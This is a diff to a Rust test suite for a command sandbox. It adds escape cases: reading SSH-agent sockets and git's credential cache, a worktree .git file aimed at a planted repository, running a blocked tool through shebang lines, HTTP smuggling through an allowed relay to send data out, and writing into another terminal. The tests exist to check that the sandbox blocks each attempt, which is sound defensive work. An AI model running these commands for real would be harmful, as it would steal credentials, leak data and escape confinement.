@@ -17,8 +17,11 @@
 //! (allowed; `$RP` redirects to the blocked listener), `$OUT` (a directory outside the workspace), `$VICTIM` (a host process
 //! of the same user with the canary in its environment), `$DAEMON`/`$ADAEMON` (a host
 //! daemon on a pathname/abstract unix socket that runs code on request and hands out
-//! the canary), `$TAG` (a name for processes that try to outlive the run) and
-//! `GITHUB_TOKEN` (the canary; the default policy withholds `*_TOKEN`).
+//! the canary; `$RDAEMON` the same under `/run`), `$LP` (an allowed host that relays
+//! a request for another host there), `$PTY` (another terminal of the same user,
+//! outside the sandbox), `$TAG` (a name for processes that try to outlive the run) and
+//! `GITHUB_TOKEN` (the canary; the default policy withholds `*_TOKEN`). Cases that
+//! need more in their run's home say so with `.with(Setup::…)`.
 mod common;
 mod threats_support;
 
@@ -27,7 +30,7 @@ use std::process::Command;
 use std::sync::OnceLock;
 
 use threats_support::Expect::{Control, Kernel, Layers, Measured};
-use threats_support::{case, run_class, Case};
+use threats_support::{case, run_class, Case, Setup};
 
 /// The kernel-layer probes (tests/kernel_support/*.c, *.py), built once; each run
 /// copies them into its workspace.
@@ -197,6 +200,28 @@ fn reading_secrets() {
             Kernel,
             "python3 -c 'import os,socket; s=socket.socket(socket.AF_UNIX); s.connect(\"\\0\"+os.environ[\"ADAEMON\"]); print(s.recv(100))'",
         ),
+        // Agents in the user's runtime directory (systemd's ssh-agent, gcr, the
+        // session bus's secret service) listen under /run: all of it is masked.
+        case(
+            "agent socket under /run",
+            Kernel,
+            "python3 -c 'import os,socket; s=socket.socket(socket.AF_UNIX); s.connect(os.environ[\"RDAEMON\"]); print(s.recv(100))'",
+        ),
+        // git's credential cache hands any client the passwords it holds.
+        case(
+            "git credential cache",
+            Kernel,
+            "printf 'protocol=https\\nhost=example.test\\n\\n' | git credential-cache get",
+        )
+        .with(Setup::CredentialCache),
+        // An SSH agent where no default looks, named only by SSH_AUTH_SOCK (withheld
+        // inside; the path can be guessed or found).
+        case(
+            "SSH_AUTH_SOCK at an odd path",
+            Kernel,
+            "python3 -c 'import os,socket; s=socket.socket(socket.AF_UNIX); s.connect(os.environ[\"AGENT\"]); print(s.recv(100))'",
+        )
+        .with(Setup::SshAgent),
     ];
     run_class("reading secrets", cases);
 }
@@ -308,6 +333,14 @@ fn writing_where_it_must_not() {
             Kernel,
             "printf x >> \"$SANDPIT_SHIM_DIR/curl\" && echo EFFECT:shim",
         ),
+        // A linked worktree's `.git` file names its repository; pointed at one the
+        // sandbox made, the user's git would run that repository's config.
+        case(
+            ".git file of a worktree",
+            Kernel,
+            "mkdir -p evil; printf 'gitdir: evil\\n' > .git; printf 'gitdir: evil\\n' > g && mv -f g .git",
+        )
+        .with(Setup::LinkedWorktree),
         case(
             "extracted interposer",
             Kernel,
@@ -365,6 +398,19 @@ fn running_what_is_blocked() {
             "node -e 'require(\"child_process\").execFileSync(\"forbidden-tool\", [\"ran-marker\"])'",
         ),
         c("absolute path", Layers, "$PWD/bin/forbidden-tool ran-marker"),
+        // The kernel runs the command a script's `#!` line names. (The tool's name
+        // comes from a directory listing: a script that spells it is refused whole,
+        // its `sh -c` command line naming it.)
+        c(
+            "#! line",
+            Layers,
+            "printf '#!%s/bin/%s ran-marker\\n' \"$PWD\" \"$(ls bin)\" > s && chmod +x s && ./s",
+        ),
+        c(
+            "#! line, two levels",
+            Layers,
+            "printf '#!%s/bin/%s ran-marker\\n' \"$PWD\" \"$(ls bin)\" > s1 && printf '#!%s/s1\\n' \"$PWD\" > s2 && chmod +x s1 s2 && ./s2",
+        ),
         c(
             "ld.so as launcher",
             Layers,
@@ -431,6 +477,37 @@ req = lambda h: ("GET http://%s/ HTTP/1.1\r\nHost: %s\r\nProxy-Authorization: Ba
 s.sendall(req(a) + req(b) + b"EXFIL")
 print(s.recv(4096))
 '"#;
+
+/// Python: open a stream to the allowed relay (`$LP`: it sends a request for another
+/// host on there) through the proxy's CONNECT (bare: straight to it), get one
+/// answered request, then send `SMUGGLE` (formatted with the blocked authority and
+/// the relay's).
+const RELAYED: &str = r#"python3 -c '
+import base64, os, socket, urllib.parse
+a, b = "%s:%s" % (os.environ["A"], os.environ["LP"]), "%s:%s" % (os.environ["B"], os.environ["BP"])
+p = os.environ.get("HTTP_PROXY")
+if p:
+    u = urllib.parse.urlparse(p)
+    auth = base64.b64encode(("%s:%s" % (u.username, u.password)).encode()).decode() if u.username else ""
+    s = socket.create_connection((u.hostname, u.port), timeout=5)
+    s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\nProxy-Authorization: Basic %s\r\n\r\n" % (a, a, auth)).encode())
+    print(s.recv(4096))
+else:
+    s = socket.create_connection((os.environ["A"], int(os.environ["LP"])), timeout=5)
+s.sendall(("GET / HTTP/1.1\r\nHost: %s\r\nFIRST\r\n\r\n" % a).encode())
+print(s.recv(4096))
+s.sendall(("SMUGGLE" % (b, a)).encode() + b"EXFIL")
+s.settimeout(1)
+try: print(s.recv(4096))
+except OSError: pass
+'"#;
+
+/// A request on a stream to an allowed host, after the first: `first` is a header
+/// of the first request, `smuggled` the second (`%s` the blocked authority, then the
+/// allowed one).
+fn relayed(first: &str, smuggled: &str) -> String {
+    RELAYED.replace("FIRST", first).replace("SMUGGLE", smuggled)
+}
 
 /// Stop every ancestor named sandpit (the launcher and its proxy), send, resume them.
 const STOP_LAUNCHER: &str = r#"
@@ -555,6 +632,25 @@ fn getting_data_out() {
             &format!("{curl} --resolve allowed.test:$BP:127.0.0.1 http://allowed.test:$BP/; {curl} --noproxy '*' --resolve allowed.test:$BP:127.0.0.1 http://allowed.test:$BP/"),
         ),
         case("pipelined second host", Kernel, PIPELINED),
+        // On a stream to an allowed host that relays by request: a request for the
+        // blocked host after an Upgrade the server did not take (no 101), and a
+        // CONNECT to it inside the stream whose Host names the allowed one.
+        case(
+            "after an Upgrade answered 200",
+            Kernel,
+            &relayed(
+                "Upgrade: websocket",
+                "GET / HTTP/1.1\\r\\nHost: %s\\r\\nX-Via: %s\\r\\n\\r\\n",
+            ),
+        ),
+        case(
+            "CONNECT inside a stream",
+            Kernel,
+            &relayed(
+                "X-First: 1",
+                "CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n",
+            ),
+        ),
         case(
             "redirect from an allowed host",
             Kernel,
@@ -613,6 +709,26 @@ fn escaping_or_outliving_it() {
             "host daemon on an abstract socket",
             Kernel,
             "python3 -c 'import os,socket; s=socket.socket(socket.AF_UNIX); s.connect(\"\\0\"+os.environ[\"ADAEMON\"]); s.sendall(b\"RUN\"); s.recv(100)'",
+        ),
+        // Like a GNU screen session's /run/screen/S-user/<session> (`screen -X
+        // stuff` types into the user's shell).
+        case(
+            "host daemon under /run",
+            Kernel,
+            "python3 -c 'import os,socket; s=socket.socket(socket.AF_UNIX); s.connect(os.environ[\"RDAEMON\"]); s.sendall(b\"RUN\"); s.recv(100)'",
+        ),
+        // Another terminal of the user (a shell in another window): written to (a
+        // spoofed prompt), its settings changed. (TIOCSTI into it is refused by seccomp
+        // whatever the terminal: tests/kernel_proc.rs.)
+        case(
+            "other terminal: write",
+            Kernel,
+            "echo INJECTED > $PTY",
+        ),
+        case(
+            "other terminal: stty -echo",
+            Kernel,
+            "stty -echo < $PTY",
         ),
     ];
     run_class("escaping or outliving it", cases);
